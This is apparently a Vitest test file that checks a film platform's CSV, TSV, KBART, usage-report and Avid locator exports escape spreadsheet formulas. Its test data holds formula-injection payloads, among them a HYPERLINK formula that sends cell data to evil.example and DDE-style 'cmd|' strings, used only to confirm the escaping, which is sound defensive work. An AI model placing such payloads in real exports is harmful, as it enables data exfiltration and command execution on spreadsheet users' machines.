import { describe, expect, it } from 'vitest'
import { counterReport } from '../institutions/counter/report.ts'
import { readReportRequest } from '../institutions/counter/report-request.ts'
import { toTable } from '../institutions/counter/tabular.ts'
import { toKbart } from '../institutions/kbart.ts'
import { writeAvidLocators } from '../review/interchange/avid-locators.ts'
import { csvFile, tabbed, unguarded, writeCsv } from './tables.ts'

const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|x!A0', '-cmd|x!A0', '@SUM(1)', ' =1+1', '＝1+1', '\t=1+1', '\r=1+1']

describe('an exported table', () => {
  it('escapes formulas in comma-separated cells', () => {
    for (const formula of formulas) {
      const cell = writeCsv([['x', formula]]).replace(/^x,"?/, '')
      expect(cell.startsWith("'"), JSON.stringify(formula)).toBe(true)
    }
  })
  it('escapes formulas after semicolons too', () => {
    expect(writeCsv([['wave;=cmd|x!A0;', 'rain; -5 degrees ;-)']])).toBe(`"wave;'=cmd|x!A0;","rain; -5 degrees ;-)"\r\n`)
  })
  it('gives none by tabs, where a standard knows no apostrophe', () => {
    for (const formula of formulas) expect(tabbed(['x', formula]), JSON.stringify(formula)).toMatch(/^x\t [^\s]/)
  })
  it('keeps words, numbers and what is empty', () => {
    expect(writeCsv([['a,b', 'Said "no",\nand left.', null, undefined, '', 3, -1, '-1', '+2,5']])).toBe(
      `"a,b","Said ""no"",\nand left.",,,,3,-1,-1,"+2,5"\r\n`,
    )
    expect(tabbed(['The\tEbb\n', null, 0, '-1'])).toBe('The Ebb\t\t0\t-1')
    expect(csvFile([['Å']])).toBe('\uFEFFÅ\r\n')
  })
  it('is read back as the words it was written from', () => {
    for (const words of ['=1+1', '- a list', 'wave;=x', "'tis", ' @home', '-5']) {
      const written = writeCsv([[words]]).trimEnd()
      expect(unguarded(written.replace(/^"|"$/g, '')), words).toBe(words)
    }
  })
})

describe('the title of a film that is a formula', () => {
  const title = formulas[0]!
  it('is words in a list of titles for knowledge bases', () => {
    const film = {
      id: '5e0a5a62',
      title,
      director: '@Aud',
      publishedAt: '2026-10-01T08:00:00Z',
      url: 'https://films.example/x',
      notes: '+x',
    }
    const [name, ...rest] = toKbart([film], '=House').split('\n')[1]!.split('\t')
    expect(name).toBe(` ${title}`)
    for (const cell of rest) expect(cell).not.toMatch(/^[=+\-@]/)
  })
  it('is words in the table of a usage report', () => {
    const asked = readReportRequest('ir', new URLSearchParams('begin_date=2026-09&end_date=2026-09'), new Date('2026-11-22T15:00:00Z'))
    if ('refused' in asked) throw new Error(`Refused: ${asked.refused}`)
    const film = { id: 'a', title, director: '', publisher: '=P', publishedOn: null, doi: null, months: { '2026-09': [1, 1, 1, 1, 0, 0] } }
    const usage = { house: '=House', institution: { id: 'f', name: '=Library' }, films: [film] }
    const table = toTable(
      counterReport(asked, usage, { site: 'https://films.example', registry: '', now: new Date('2026-11-22T15:00:00Z') }),
    )
    expect(table).toContain(`\r\n ${title}\t`)
    for (const cell of table.split(/[\t\r\n]+/)) expect(cell).not.toMatch(/^[=+\-@]/)
  })
  it('is words in a list of locators', () => {
    const marker = { startFrame: 0, endFrame: 1, name: '', comment: title, colour: 'red', author: '=A', done: false }
    const list = {
      name: 'x',
      startFrames: 0,
      durationFrames: 10,
      count: { rate: { frames: 25, seconds: 1 }, drop: false },
      markers: [marker],
    }
    for (const cell of writeAvidLocators(list as never).split(/[\t\r\n]+/)) expect(cell).not.toMatch(/^[=+\-@]/)
  })
})
